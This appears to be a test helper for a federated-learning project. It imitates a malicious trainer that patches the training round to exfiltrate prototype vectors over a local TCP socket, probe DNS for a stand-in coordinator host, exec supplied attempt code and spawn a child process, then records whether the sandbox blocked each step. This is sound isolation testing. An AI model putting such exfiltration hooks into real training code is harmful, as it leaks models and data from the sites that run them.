"""A trainer whose method is malicious: after a round it tries to get the prototypes and the keys out.

Started in the place of `site_agent.trainer`. The environment says what to try, and whether this process isolates itself
as it should. What came of the attempts is left in the folder for temporary files.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

from lazaret.terminal import run_command
from site_agent.trainer import __main__ as entry
from site_agent.trainer.isolation import Isolation
from tests.support.isolated import ATTEMPTS, CHILD

TASK = json.loads(os.environ["LAZARET_TEST_ATTEMPTS"])
_isolate = entry.isolate


def isolate(*given: Any, **more: Any) -> Isolation:
    found = _isolate(*given, **more) if TASK["isolated"] else Isolation(attempts={"TCP connection": "opened"})
    from npr.methods.base import Method  # torch: only now

    honest = Method.local_round

    def local_round(method: Method, site: Any, number: int) -> Any:
        report = honest(method, site, number)
        (Path(os.environ["TMPDIR"]) / "attempts.json").write_text(json.dumps(_attempts(site)))
        return report

    Method.local_round = local_round  # type: ignore[method-assign]
    return found


def _attempts(site: Any) -> dict[str, Any]:
    space: dict[str, Any] = {}
    exec(ATTEMPTS, space)
    words = [sys.executable, "-c", CHILD, json.dumps([TASK["names"], TASK["to"]])]
    done = subprocess.run(words, capture_output=True, text=True, check=False)
    return {
        "own": space["attempt"](TASK["names"], TASK["to"]),
        "child": json.loads(done.stdout) if done.returncode == 0 else done.stderr,
        "prototypes": _send(site.prototypes.vectors.numpy().tobytes()),
        "resolved": _resolve(),
    }


def _send(content: bytes) -> str:
    try:
        with socket.create_connection(("127.0.0.1", TASK["to"]["tcp"]), timeout=5) as link:
            link.sendall(content)
    except OSError as error:
        return os.strerror(error.errno or 0).lower()
    return "done"


def _resolve() -> str:
    try:
        socket.getaddrinfo("coordinator.invalid", 443)
    except OSError as error:
        return type(error).__name__
    return "done"


entry.isolate = isolate  # type: ignore[assignment]

if __name__ == "__main__":
    run_command(entry.command, "malicious trainer")
